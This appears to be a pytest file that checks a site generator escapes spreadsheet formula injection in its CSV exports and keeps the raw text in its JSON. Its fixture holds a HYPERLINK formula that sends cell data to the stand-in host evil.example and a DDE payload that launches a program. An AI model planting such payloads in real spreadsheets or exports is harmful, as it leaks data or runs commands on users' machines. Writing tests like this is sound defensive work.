"""Spreadsheet-safe CSV: a cell a spreadsheet would run as a formula starts with ``'``; JSON keeps the text.

Expectations come from the raw values written here, not from the generator.
"""

from __future__ import annotations

import csv
import io
import json

from conftest import parse_page

HOSTILE = {
    "title": '=HYPERLINK("https://evil.example/?x="&A1,"Details")',
    "summary": "+cmd|' /C calc'!A0",
    "publisher": "@SUM(1+1)",
    "source_title": "-2+3",
    "formula": "=1+1",
    "minus": "-1 point",
}
OWASP_STARTS = ("=", "+", "-", "@", "\t", "\r")


def hostile_brief() -> str:
    q = json.dumps  # a JSON string is a YAML double-quoted scalar
    return (
        f"---\ntitle: {q(HOSTILE['title'])}\ndate: 2025-05-16\nsummary: {q(HOSTILE['summary'])}\nactors: [umerov]\n"
        f"sources:\n  - publisher: {q(HOSTILE['publisher'])}\n    title: {q(HOSTILE['source_title'])}\n"
        f"    url: https://news.example.org/a\n  - publisher: {q(HOSTILE['minus'])}\n    title: {q(HOSTILE['formula'])}\n"
        f"  - publisher: Plain Wire\n    title: A - B = C\n---\nBody.\n"
    )


def rows(path) -> list[dict]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))


def test_csv_cells_that_start_like_formulas_get_an_apostrophe_and_json_keeps_them(corpus):
    corpus.write("hostile.md", hostile_brief())
    site = corpus.build()
    safe = lambda text: "'" + text if text.startswith(OWASP_STARTS) else text  # noqa: E731
    [brief] = rows(site / "data" / "briefs.csv")
    assert brief["title"] == "'" + HOSTILE["title"] and brief["summary"] == "'" + HOSTILE["summary"]
    sources = rows(site / "data" / "sources.csv")
    assert [(s["publisher"], s["title"]) for s in sources] == [
        ("'@SUM(1+1)", "'-2+3"), ("'-1 point", "'=1+1"), ("Plain Wire", "A - B = C")]
    every_cell = [cell for table in (sources, [brief]) for row in table for cell in row.values()]
    assert not [cell for cell in every_cell if cell.startswith(OWASP_STARTS)]
    assert [safe(v) for v in HOSTILE.values()] == ["'" + v for v in HOSTILE.values()]
    [record] = json.loads((site / "data" / "briefs.json").read_text(encoding="utf-8"))
    assert record["title"] == HOSTILE["title"] and record["summary"] == HOSTILE["summary"]
    assert [(s["publisher"], s["title"]) for s in record["sources"]] == [
        (HOSTILE["publisher"], HOSTILE["source_title"]), (HOSTILE["minus"], HOSTILE["formula"]), ("Plain Wire", "A - B = C")]


def test_every_owasp_leading_character_is_neutralised_even_where_check_refuses_it():
    from generator.outputs.data_files import csv_cell  # check strips a leading tab and refuses a CR: test the cell itself

    assert [csv_cell(start + "x") for start in OWASP_STARTS] == ["'" + start + "x" for start in OWASP_STARTS]
    assert [csv_cell(v) for v in ("x=1", " =1", "", None, ["a", "b"], 3)] == ["x=1", " =1", "", "", "a;b", "3"]


def test_the_data_page_and_its_dictionary_say_so(corpus):
    corpus.write("hostile.md", hostile_brief())
    text = " ".join(" ".join(parse_page(corpus.build() / "data" / "index.html").text).split())
    assert "In the CSV files, a text cell that begins with =, +, -, @, a tab or a carriage return has a ' put before it" in text
    note = "A ' is put before text that begins with =, +, -, @, a tab or a carriage return."
    assert f"title text The headline. {note}" in text  # briefs.csv's dictionary
    assert f"publisher text Who published it. {note}" in text  # sources.csv's
    assert f"date date When the reported event happened. {note}" not in text
